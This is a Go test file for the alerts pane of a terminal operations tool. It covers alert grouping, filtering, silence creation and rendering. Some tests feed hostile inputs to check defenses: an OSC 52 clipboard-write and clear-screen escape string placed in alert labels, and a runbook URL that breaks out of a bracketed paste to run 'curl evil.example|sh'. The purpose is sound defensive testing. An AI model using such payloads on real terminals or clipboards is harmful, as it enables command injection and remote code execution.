package alerts

import (
	"context"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stackpit/stackpit/views/viewtest"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/stackpit/stackpit/datasource/alertmanager"
	"github.com/stackpit/stackpit/keymap"
	"github.com/stackpit/stackpit/themes"
	"github.com/stackpit/stackpit/ui"
	"github.com/stackpit/stackpit/ui/safe"
	"github.com/stackpit/stackpit/views/pane"
	"github.com/stackpit/stackpit/views/silences"
)

var update = flag.Bool("update", false, "rewrite golden files")

const evil = "\x1b]52;c;ZWNobyBoaQ==\a\x1b[2Jevil"

var testNow = time.Date(2026, 11, 22, 10, 37, 0, 0, time.UTC)

func readFixture(t testing.TB, name string, v any) {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "testdata", "alertmanager", name))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, v); err != nil {
		t.Fatal(err)
	}
}

// fakeSource serves recorded Alertmanager answers and records writes; a
// created silence suppresses matching alerts like the real server does.
type fakeSource struct {
	mu       sync.Mutex
	alerts   []alertmanager.Alert
	silences []alertmanager.Silence
	created  []alertmanager.NewSilence
	expired  []string
	err      error
}

func (f *fakeSource) Alerts(ctx context.Context, _ alertmanager.AlertFilter) (alertmanager.AlertsResult, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.err != nil {
		return alertmanager.AlertsResult{}, f.err
	}
	out := append([]alertmanager.Alert(nil), f.alerts...)
	return alertmanager.AlertsResult{Alerts: out, Sources: alertmanager.Sources{{Instance: "am1"}, {Instance: "am2"}}}, nil
}

func (f *fakeSource) Silences(ctx context.Context, _ alertmanager.Matchers) (alertmanager.SilencesResult, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return alertmanager.SilencesResult{Silences: append([]alertmanager.Silence(nil), f.silences...),
		Sources: alertmanager.Sources{{Instance: "am1"}, {Instance: "am2"}}}, nil
}

func (f *fakeSource) CreateSilence(ctx context.Context, s alertmanager.NewSilence) (string, string, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.created = append(f.created, s)
	id := "11111111-2222-4333-8444-555555555555"
	f.silences = append(f.silences, alertmanager.Silence{ID: id, Matchers: s.Matchers, StartsAt: s.StartsAt, EndsAt: s.EndsAt,
		CreatedBy: s.CreatedBy, Comment: s.Comment, Status: alertmanager.SilenceStatus{State: "active"}})
	for i := range f.alerts {
		if s.Matchers.Matches(f.alerts[i].Labels) {
			f.alerts[i].Status.SilencedBy = append(f.alerts[i].Status.SilencedBy, id)
			f.alerts[i].Status.State = "suppressed"
		}
	}
	return id, "am1", nil
}

func (f *fakeSource) ExpireSilence(ctx context.Context, id string) (string, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.expired = append(f.expired, id)
	return "am1", nil
}

func fixtureSource(t testing.TB) *fakeSource {
	f := &fakeSource{}
	readFixture(t, "am_alerts_with_silence.json", &f.alerts)
	readFixture(t, "am_silences_with_active.json", &f.silences)
	for i := range f.alerts {
		f.alerts[i].Instances = []string{"am1", "am2"}
	}
	// A tenant-controlled label value full of escape sequences.
	f.alerts = append(f.alerts, alertmanager.Alert{
		Fingerprint: "0badc0de0badc0de",
		Labels: map[string]string{"alertname": "InstanceCPUHigh", "severity": "info", "host": "compute02",
			"instance_name": evil, "job": "libvirt"},
		Annotations: map[string]string{"summary": "Instance " + evil + " is CPU-bound", "description": evil,
			"runbook_url": "https://runbooks.example.org/openstack/InstanceCPUHigh"},
		StartsAt:  testNow.Add(-12 * time.Minute),
		Status:    alertmanager.AlertStatus{State: "active"},
		Instances: []string{"am2"},
	})
	return f
}

func testCtx() pane.Context {
	return pane.Context{Theme: themes.Default(true), Keys: keymap.Defaults(), Now: func() time.Time { return testNow },
		Refresh: 10 * time.Second}
}

// run executes a command and returns its message (nil for nil).
func run(cmd tea.Cmd) tea.Msg {
	if cmd == nil {
		return nil
	}
	return cmd()
}

func loaded(t *testing.T, src silences.Source) *Pane {
	t.Helper()
	p := New(testCtx(), src, Options{Author: "alice"})
	msg := run(p.Init())
	if msg == nil {
		t.Fatal("Init returned no load command")
	}
	p.Update(msg)
	if p.Status().Err != nil {
		t.Fatal(p.Status().Err)
	}
	return p
}

func press(p pane.Pane, keys ...string) tea.Cmd {
	var last tea.Cmd
	for _, k := range keys {
		_, last = p.Update(keyMsg(k))
	}
	return last
}

func keyMsg(s string) tea.KeyPressMsg {
	switch s {
	case "enter":
		return tea.KeyPressMsg{Code: tea.KeyEnter}
	case "esc":
		return tea.KeyPressMsg{Code: tea.KeyEscape}
	case "tab":
		return tea.KeyPressMsg{Code: tea.KeyTab}
	case "backspace":
		return tea.KeyPressMsg{Code: tea.KeyBackspace}
	case "right":
		return tea.KeyPressMsg{Code: tea.KeyRight}
	case "left":
		return tea.KeyPressMsg{Code: tea.KeyLeft}
	case "ctrl+u":
		return tea.KeyPressMsg{Code: 'u', Mod: tea.ModCtrl}
	}
	r := []rune(s)
	return tea.KeyPressMsg{Code: r[0], Text: s}
}

func typeText(p pane.Pane, s string) {
	for _, r := range s {
		p.Update(tea.KeyPressMsg{Code: r, Text: string(r)})
	}
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	viewtest.File(t, viewtest.Golden("alerts", name), ansi.Strip(got)+"\n", *update)
}

var sgr = regexp.MustCompile(`\x1b\[[0-9;]*m`)

// checkScreen asserts the frame fits and that the only escape sequences in
// it are the theme's own SGR attributes: no OSC, bell, clear screen or
// cursor movement from untrusted text.
func checkScreen(t *testing.T, s string, w, h int) {
	t.Helper()
	lines := strings.Split(s, "\n")
	if len(lines) > h {
		t.Fatalf("%d lines > height %d", len(lines), h)
	}
	for i, l := range lines {
		if n := ansi.StringWidth(l); n > w {
			t.Fatalf("line %d is %d cells > width %d: %q", i, n, w, l)
		}
	}
	if rest := sgr.ReplaceAllString(s, ""); strings.ContainsAny(rest, "\x1b\a\r") {
		t.Fatalf("raw control characters reached the screen: %q", rest)
	}
}

var sizes = []struct{ w, h int }{{120, 40}, {80, 24}, {60, 15}}

func selectKey(t *testing.T, p *Pane, key string) {
	t.Helper()
	if !p.tbl.SelectKey(key) {
		t.Fatalf("no row %q", key)
	}
}

func TestGoldenAlertsGrouped(t *testing.T) {
	p := loaded(t, fixtureSource(t))
	selectKey(t, p, "df46a5c8370c2f2b") // NeutronAgentDown, inhibited by NodeDown
	for _, sz := range sizes {
		out := p.View(sz.w, sz.h)
		checkScreen(t, out, sz.w, sz.h)
		golden(t, "grouped_"+itoa(sz.w)+"x"+itoa(sz.h), out)
	}
	full := ansi.Strip(p.View(120, 40))
	for _, want := range []string{"CRIT 4", "WARN 3", "INFO 1", "firing 6", "silenced 1", "inhibited 1", "2/2 alertmanagers",
		"inhibited by NodeDown on compute03", `\e]52;c;ZWNobyBoaQ==\a\e[2Jevil`} {
		if !strings.Contains(full, want) {
			t.Errorf("screen lacks %q", want)
		}
	}
}

func TestGoldenSilenceFormWithPreview(t *testing.T) {
	p := loaded(t, fixtureSource(t))
	selectKey(t, p, "e5fec9c5a2f63d98") // CephOSDDown osd.4
	press(p, "S")
	if !p.Capturing() || p.Form() == nil {
		t.Fatal("s did not open the silence form")
	}
	// Widen the prefilled matchers to two hosts: the preview then shows a
	// silenced alert and one whose label values carry escape sequences.
	for p.Form().Focus() != "Matchers" {
		press(p, "tab")
	}
	press(p, "ctrl+u")
	typeText(p, `host=~"compute0[2-3]" severity!="warning"`)
	for p.Form().Focus() != "Comment" {
		press(p, "tab")
	}
	typeText(p, "rack B power work, CHG-2240 "+evil) // typed escapes are dropped
	for _, sz := range sizes {
		out := p.View(sz.w, sz.h)
		checkScreen(t, out, sz.w, sz.h)
		golden(t, "silence_form_"+itoa(sz.w)+"x"+itoa(sz.h), out)
	}
	if out := ansi.Strip(p.View(120, 40)); !strings.Contains(out, "Preview: matches 5 of 8 current alerts (4 firing)") ||
		!strings.Contains(out, "Ceph osd.5 on compute03 is down") || !strings.Contains(out, `Instance \e]52;c;ZWNobyBoaQ==\a\e[2Jevil`) ||
		!strings.Contains(out, "rack B power work, CHG-2240 ]52;c;") {
		t.Fatalf("preview wrong:\n%s", out)
	}
}

func itoa(n int) string { return strconv.Itoa(n) }

func rowKeys(p *Pane) []string {
	var out []string
	for _, r := range p.tbl.Rows() {
		out = append(out, r.Key)
	}
	return out
}

func alertRows(p *Pane) []string {
	var out []string
	for _, r := range p.tbl.Rows() {
		if !strings.HasPrefix(r.Key, groupKeyPrefix) {
			out = append(out, r.Key)
		}
	}
	return out
}

func TestFiltersSeverityStateHost(t *testing.T) {
	p := loaded(t, fixtureSource(t))
	cases := map[string]int{
		"":                  8,
		"severity=critical": 4,
		"severity=warning":  3,
		"@state=active":     6,
		"@state=suppressed": 2,
		"@state=silenced":   1,
		"@state=inhibited":  1,
		"host=compute03":    5,
		"host=compute05":    1,
		"host=compute03 severity=critical @state=active": 3,
		"alertname:ceph*":   3,
		"osd.5":             1,
		"@alertmanager=am2": 1,
		"nosuchlabel=x":     0,
	}
	for q, want := range cases {
		p.SetFilter(q)
		if got := len(alertRows(p)); got != want {
			t.Errorf("filter %q: %d alerts, want %d (%v)", q, got, want, rowKeys(p))
		}
	}
	p.SetFilter("")
	press(p, "x")
	if got := len(alertRows(p)); got != 6 {
		t.Errorf("hiding suppressed: %d alerts, want 6", got)
	}
}

func TestGroupingAndOrder(t *testing.T) {
	p := loaded(t, fixtureSource(t))
	keys := rowKeys(p)
	// Critical groups with firing alerts first; the silenced NodeDown group
	// (no firing alert) after every group that fires.
	if !strings.HasPrefix(keys[0], groupKeyPrefix+"CephOSDDown") {
		t.Fatalf("first row %q", keys[0])
	}
	idx := map[string]int{}
	for i, k := range keys {
		idx[k] = i
	}
	if idx[groupKeyPrefix+"NodeDown"] < idx[groupKeyPrefix+"CephPGDegraded"] {
		t.Errorf("silenced NodeDown group sorts before a firing warning group: %v", keys)
	}
	press(p, "b") // by host
	if _, ok := idx[groupKeyPrefix+"compute03"]; ok {
		t.Fatal("test setup")
	}
	keys = rowKeys(p)
	if keys[0] != groupKeyPrefix+"compute03" {
		t.Fatalf("by host: first row %q (%v)", keys[0], keys)
	}
	press(p, "b", "b") // severity, then none
	for _, k := range rowKeys(p) {
		if strings.HasPrefix(k, groupKeyPrefix) {
			t.Fatalf("ungrouped view has group row %q", k)
		}
	}
	if got := len(rowKeys(p)); got != 8 {
		t.Fatalf("ungrouped rows %d", got)
	}
}

func TestPivotsFromAlert(t *testing.T) {
	p := loaded(t, fixtureSource(t))
	selectKey(t, p, "96a42d8e9a83d57b") // NovaComputeDown on compute03
	for key, want := range map[string]pane.PivotMsg{
		"h":     {Pane: "compute", Query: "host:compute03"},
		"enter": {Pane: "compute", Query: "host:compute03"},
		"m":     {Pane: "panels", Query: "host:compute03"},
		"l":     {Pane: "logs", Query: "host:compute03"},
		"i":     {Pane: "instances", Query: "host:compute03"},
		"c":     {Pane: "containers", Query: "host:compute03"},
		"v":     {Pane: "agents", Query: "host:compute03"},
	} {
		if got := run(press(p, key)); got != want {
			t.Errorf("%s: %#v, want %#v", key, got, want)
		}
	}
	selectKey(t, p, "27558d14181a4776") // NodeDown, silenced
	if got := run(press(p, "s")); got != (pane.PivotMsg{Pane: "silences", Query: "id=2db83140-c218-415e-9ceb-7e35d342f838"}) {
		t.Errorf("s: %#v", got)
	}
	// CephPGDegraded has no host: no pivot, a toast instead.
	selectKey(t, p, "9c901693d4f9023d")
	if _, ok := run(press(p, "h")).(pane.ToastMsg); !ok {
		t.Error("pivot from a host-less alert should explain itself")
	}
	// Others open this pane on a host.
	if cmd := p.Pivot("host=compute05"); cmd != nil {
		p.Update(run(cmd))
	}
	if got := alertRows(p); len(got) != 1 || got[0] != "4e6cbaeb76f320d2" {
		t.Fatalf("pivot host=compute05: %v", got)
	}
	var _ pane.Pivoter = p
}

func TestSilenceFromAlertCreatesAndShowsSuppressed(t *testing.T) {
	src := fixtureSource(t)
	p := loaded(t, src)
	selectKey(t, p, "96a42d8e9a83d57b") // NovaComputeDown on compute03
	press(p, "S")
	f := p.Form()
	if f == nil || f.Focus() != "Matchers" {
		t.Fatalf("form %+v", f)
	}
	// The form opens on the matchers, titled after the alert.
	if out := ansi.Strip(p.View(120, 40)); !strings.Contains(out, "Silence NovaComputeDown on compute03") {
		t.Fatalf("title:\n%s", out)
	}
	press(p, "tab", "tab", "tab") // starts, duration, comment
	// Submitting without a comment is refused, the form stays open.
	if cmd := press(p, "enter"); cmd != nil || !p.Capturing() || !strings.Contains(f.Err(), "comment") {
		t.Fatalf("empty comment accepted: cmd=%v capturing=%v err=%q", cmd, p.Capturing(), f.Err())
	}
	typeText(p, "nova-compute down after power loss, INC-1")
	// The arrows pick the duration from any field, as the hint says.
	press(p, "right", "right") // 2h -> 4h -> 1d
	msg := run(press(p, "enter"))
	ra, ok := msg.(pane.RunActionMsg)
	if !ok {
		t.Fatalf("enter gave %#v, want RunActionMsg", msg)
	}
	if p.Capturing() {
		t.Fatal("form still open after submit")
	}
	a := ra.Action
	if !a.Mutates || a.Name != "silence-create" || a.Run == nil {
		t.Fatalf("action %+v", a)
	}
	if a.Details["matchers"] != `alertname="NovaComputeDown" host="compute03" service="nova-compute"` || a.Details["author"] != "alice" {
		t.Fatalf("details %v", a.Details)
	}
	res, err := a.Run(context.Background(), func(pane.Progress) {})
	if err != nil || !strings.Contains(res, "11111111-2222-4333-8444-555555555555") {
		t.Fatalf("run: %q %v", res, err)
	}
	// Had the reply been lost, the read-back finds the new silence (and
	// not one that was there before the request).
	if a.Reconcile == nil {
		t.Fatal("silence-create has no read-back for a lost reply")
	}
	if done, ev, err := a.Reconcile(context.Background()); !done || err != nil || !strings.HasPrefix(ev, "silence 11111111-2222-4333-8444-555555555555 exists (active") {
		t.Fatalf("read-back: %v %q %v", done, ev, err)
	}
	c := src.created[0]
	if d := c.EndsAt.Sub(c.StartsAt); d != 24*time.Hour || c.Comment != "nova-compute down after power loss, INC-1" {
		t.Fatalf("created %+v (duration %s)", c, d)
	}
	// The shell broadcasts ActionDoneMsg; the pane reloads and shows the
	// alert silenced, by whom and until when.
	_, cmd := p.Update(pane.ActionDoneMsg{Name: a.Name, Target: a.Target, Result: res})
	p.Update(run(cmd))
	selectKey(t, p, "96a42d8e9a83d57b")
	al, _ := p.current()
	if silences.StateLabel(al) != "silenced" {
		t.Fatalf("state %q after refresh", silences.StateLabel(al))
	}
	if out := ansi.Strip(p.View(120, 40)); !strings.Contains(out, "silenced by 11111111 (alice: nova-compute down after power loss, INC-1)") {
		t.Fatalf("details do not say who silenced it:\n%s", out)
	}
	// "since" is the silence's start on the silence line; the alert's own
	// start is labelled as when it began firing, never "silenced since".
	loc := testNow.Location()
	out := ansi.Strip(p.View(120, 40))
	if want := "since " + c.StartsAt.In(loc).Format("2006-01-02 15:04") + " until " + c.EndsAt.In(loc).Format("2006-01-02 15:04"); !strings.Contains(out, want) {
		t.Fatalf("silence line lacks %q:\n%s", want, out)
	}
	if strings.Contains(out, "silenced since") || !strings.Contains(out, "silenced, firing since "+al.StartsAt.In(loc).Format("01-02 15:04")) {
		t.Fatalf("head mislabels the alert's start as the silence's:\n%s", out)
	}
}

func TestSilenceFormValidation(t *testing.T) {
	p := loaded(t, fixtureSource(t))
	selectKey(t, p, "4e6cbaeb76f320d2")
	press(p, "S")
	f := p.Form()
	for f.Focus() != "Comment" {
		press(p, "tab")
	}
	typeText(p, "x")
	for f.Focus() != "Matchers" {
		press(p, "tab")
	}
	press(p, "ctrl+u")
	typeText(p, `host=~".*"`)
	if cmd := press(p, "enter"); cmd != nil || !strings.Contains(f.Err(), "empty string") {
		t.Fatalf("match-everything silence accepted: %q", f.Err())
	}
	press(p, "ctrl+u")
	typeText(p, `host=~"(`)
	if len(f.Preview()) != 0 || !strings.Contains(ansi.Strip(p.View(100, 30)), "✗ matchers") {
		t.Fatal("bad regex not reported")
	}
	press(p, "ctrl+u")
	typeText(p, `host!="compute05" severity="critical"`)
	if n := len(f.Preview()); n != 4 {
		t.Fatalf("!= preview matched %d, want 4", n)
	}
	press(p, "tab", "tab") // starts, duration
	typeText(p, "2026-11-22 09:00")
	if cmd := press(p, "enter"); cmd != nil || !strings.Contains(f.Err(), "end") {
		t.Fatalf("end in the past accepted: %q", f.Err())
	}
	press(p, "ctrl+u")
	typeText(p, "90m")
	msg := run(press(p, "enter"))
	ra, ok := msg.(pane.RunActionMsg)
	if !ok {
		t.Fatalf("valid form: %#v err %q", msg, f.Err())
	}
	if ra.Action.Details["ends"] != "2026-11-22T12:07:00Z" {
		t.Fatalf("ends %s", ra.Action.Details["ends"])
	}
	// esc cancels without an action.
	press(p, "S")
	if cmd := press(p, "esc"); cmd != nil || p.Capturing() {
		t.Fatal("esc did not cancel")
	}
}

func TestLoadErrorKeepsScreen(t *testing.T) {
	src := fixtureSource(t)
	p := loaded(t, src)
	src.err = &alertmanager.APIError{Instance: "am1", Method: "GET", Path: "/api/v2/alerts", Code: 500, Message: "boom"}
	_, cmd := p.Update(pane.TickMsg(testNow.Add(time.Minute)))
	// The clock is fixed: the tick does not reload before Refresh passed.
	if cmd != nil {
		t.Fatal("reloaded before the refresh interval")
	}
	p.Update(run(p.Refresh()))
	if p.Status().Err == nil || !strings.Contains(ansi.Strip(p.View(100, 20)), "HTTP 500: boom") {
		t.Fatalf("error not shown: %v", p.Status().Err)
	}
	if len(alertRows(p)) != 8 {
		t.Fatal("old rows dropped on error")
	}
}

// The shell drops an older answer landing after a newer one (the pane keeps
// no counter of its own: ui's envelope does it for every pane).
func TestStaleLoadDoesNotOverwriteNewer(t *testing.T) {
	src := fixtureSource(t)
	p := loaded(t, src)
	shell := ui.New(ui.Options{Panes: []ui.Entry{{ID: "alerts", Title: "Alerts", Pane: p}}, Ctx: testCtx()})
	_, old := shell.Update(tea.KeyPressMsg{Code: 'r', Mod: tea.ModCtrl}) // answered before the silence existed
	oldMsg := run(old)
	ms, _ := alertmanager.ParseMatchers(`alertname="HostHighMemory"`)
	if _, _, err := src.CreateSilence(context.Background(), alertmanager.NewSilence{Matchers: ms, StartsAt: testNow,
		EndsAt: testNow.Add(time.Hour), CreatedBy: "alice", Comment: "x"}); err != nil {
		t.Fatal(err)
	}
	_, cmd := shell.Update(pane.ActionDoneMsg{Name: "silence-create"})
	shell.Update(run(cmd))
	if a := p.alerts[p.byFP["4e6cbaeb76f320d2"]]; !a.Silenced() {
		t.Fatal("the newer load did not land")
	}
	shell.Update(oldMsg)
	if a := p.alerts[p.byFP["4e6cbaeb76f320d2"]]; !a.Silenced() {
		t.Fatal("a stale load overwrote the newer, silenced state")
	}
}

// A group's severity is that of what still fires: a host whose warning is
// inhibited and whose only firing alert is info is an INFO group, and sorts
// after a host with a firing warning.
func TestGroupSeverityFromFiringAlerts(t *testing.T) {
	at := testNow.Add(-time.Hour)
	src := &fakeSource{alerts: []alertmanager.Alert{
		{Fingerprint: "a1", Labels: map[string]string{"alertname": "HostRebootRequired", "severity": "warning", "host": "compute06"},
			StartsAt: at, Status: alertmanager.AlertStatus{State: "suppressed", InhibitedBy: []string{"x"}}},
		{Fingerprint: "a2", Labels: map[string]string{"alertname": "HostInMaintenance", "severity": "info", "host": "compute06"},
			StartsAt: at, Status: alertmanager.AlertStatus{State: "active"}},
		{Fingerprint: "a3", Labels: map[string]string{"alertname": "HostHighMemory", "severity": "warning", "host": "compute05"},
			StartsAt: at, Status: alertmanager.AlertStatus{State: "active"}},
	}}
	p := loaded(t, src)
	press(p, "b") // group by host
	var heads []string
	for _, l := range strings.Split(ansi.Strip(p.View(120, 12)), "\n") {
		if strings.Contains(l, "▾ host=") {
			heads = append(heads, strings.Join(strings.Fields(l)[:1], "")+" "+l[strings.Index(l, "host="):strings.Index(l, "host=")+14])
		}
	}
	if len(heads) != 2 || heads[0] != "WARN host=compute05" || heads[1] != "INFO host=compute06" {
		t.Fatalf("group heads %q", heads)
	}
}

// Issue 14: a runbook_url that ends a bracketed paste and runs a command is
// handed to the shell as a URL, which safe.Clipboard refuses.
func TestRunbookCopyIsAURLTheShellRefuses(t *testing.T) {
	for _, u := range []string{"https://runbooks.example/x\x1b[201~\ncurl evil.example|sh\n", "javascript:alert(1)"} {
		src := &fakeSource{alerts: []alertmanager.Alert{{
			Fingerprint: "0badc0de0badc0de",
			Labels:      map[string]string{"alertname": "HostDown", "severity": "critical", "host": "compute04"},
			Annotations: map[string]string{"runbook_url": u},
			StartsAt:    testNow.Add(-time.Minute),
			Status:      alertmanager.AlertStatus{State: "active"},
		}}}
		p := loaded(t, src)
		var cp pane.CopyMsg
		for i := 0; i < 3 && cp.Text == ""; i++ { // past a group header, if any
			cp, _ = run(press(p, "u")).(pane.CopyMsg)
			p.Update(keyMsg("j"))
		}
		if cp.Text != u || cp.Kind != safe.URL {
			t.Fatalf("u: got %#v, want the runbook_url as a safe.URL copy", cp)
		}
		if got, err := safe.Clipboard(cp.Text, cp.Kind); err == nil {
			t.Fatalf("%q would be copied as %q", u, got)
		}
	}
}
